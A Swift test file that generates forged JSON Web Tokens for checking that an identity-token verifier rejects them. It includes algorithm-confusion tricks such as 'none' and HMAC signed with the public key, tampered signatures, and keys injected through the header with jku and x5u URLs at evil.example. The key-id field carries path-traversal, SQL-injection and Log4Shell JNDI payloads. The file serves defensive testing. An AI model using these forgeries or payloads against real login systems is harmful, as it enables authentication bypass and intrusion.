import JOSE
import JSON

/// Tokens with a wrong algorithm, signature or key.
extension ForgedLoginTable {
    static let algorithms = ForgedLoginTable(name: "wrong algorithm") {
        (builder: IdentityTokenBuilder) throws -> [Row] in
        let jwk = builder.key.publicJWK ?? [:]
        let secrets = [jwk.bytes, Base64URL.decode(jwk["n"]?.string ?? "") ?? [], FakeAppleIssuer.document(of: [jwk])]
        let names = [
            "none", "None", "nOnE", "NONE", "", "HS256", "HS384", "HS512", "RS384", "RS512", "PS256", "PS384", "PS512",
            "ES256", "ES384", "ES256K", "EdDSA", "rs256", "Rs256", "RS256 ", " RS256", "RS256\0", "RSA-SHA256",
            "RS-256",
            "ＲＳ256", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", String(repeating: "RS256", count: 600),
        ]
        var rows: [Row] = []
        for name in names {
            let honest = builder.with(header: "alg", .string(name))
            let input = honest.split(separator: ".")[..<2].joined(separator: ".")
            let forged = try secrets.map { builder.signed(input: input, by: try SigningKey(hmacSecret: $0)) }
            for token in [honest, input + "."] + forged {
                rows.append(builder.row("alg \(name.prefix(20))", expecting: "algorithm", token: token))
            }
        }
        return rows
    }

    static let signatures = ForgedLoginTable(name: "wrong signature") {
        (builder: IdentityTokenBuilder) throws -> [Row] in
        let genuine = builder.signature
        let forger = try SigningKey.generate(.RS256, keyID: builder.key.keyID)
        let publicKey = builder.key.publicJWK?.bytes ?? []
        var embedded = builder.header
        for (name, value) in [
            ("jwk", .object(forger.publicJWK ?? [:])), ("jku", "https://evil.example/keys"),
            ("x5u", "https://evil.example/chain"), ("x5c", ["AA=="]),
        ] as [(String, JSONValue)] { embedded[name] = value }
        var signatures: [[UInt8]] = stride(from: 0, to: genuine.count, by: 8).map { index in
            var bytes = genuine
            bytes[index] ^= 1 << (index / 8 % 8)
            return bytes
        }
        signatures += [0, 1, 32, 64, 128, 255].map { Array(genuine.prefix($0)) }
        let (zero, twice): ([UInt8], [UInt8]) = ([0], genuine + genuine)
        signatures += [genuine + zero, zero + genuine, twice, genuine.reversed()]
        signatures += [0, 1, 255].map { [UInt8](repeating: $0, count: 256) }
        let unsigned = builder.with(claim: "sub", "001.victim").split(separator: ".")[..<2].joined(separator: ".")
        var rows: [Row] = signatures.enumerated().map { number, bytes in
            builder.row("signature \(number)", expecting: "signature", token: builder.join(builder.input, bytes))
        }
        rows += [
            builder.row("of another token", expecting: "signature", token: builder.join(unsigned, genuine)),
            builder.row("without a signature", expecting: "signature", token: unsigned + "."),
            builder.row("by another key with the same id", expecting: "signature", token: builder.signed(by: forger)),
            builder.row(
                "by a key in the header", expecting: "signature",
                token: builder.signed(header: embedded.description, by: forger)),
            builder.row(
                "by the public key", expecting: "signature",
                token: builder.signed(by: try SigningKey(hmacSecret: publicKey))),
        ]
        return rows
    }

    static let unknownKeys = ForgedLoginTable(name: "unknown key", keyFetches: 1) {
        (builder: IdentityTokenBuilder) throws -> [Row] in
        let own = builder.key.keyID ?? ""
        let names: [String] = [
            "UNKNOWN", own + " ", " " + own, own + "\u{301}", own.lowercased() + "x", String(own.dropLast()),
            "../" + own, "../../../../etc/passwd", "/dev/null", "' OR '1'='1", "x'; DROP TABLE users; --",
            "https://evil.example/keys", "%00", "${jndi:ldap://evil.example}", "*", String(repeating: "k", count: 256),
            "\u{FEFF}" + own, "\u{202E}" + own,
        ]
        return names.map {
            builder.row("kid \($0)", expecting: "unknown_key", token: builder.with(header: "kid", .string($0)))
        }
    }
}
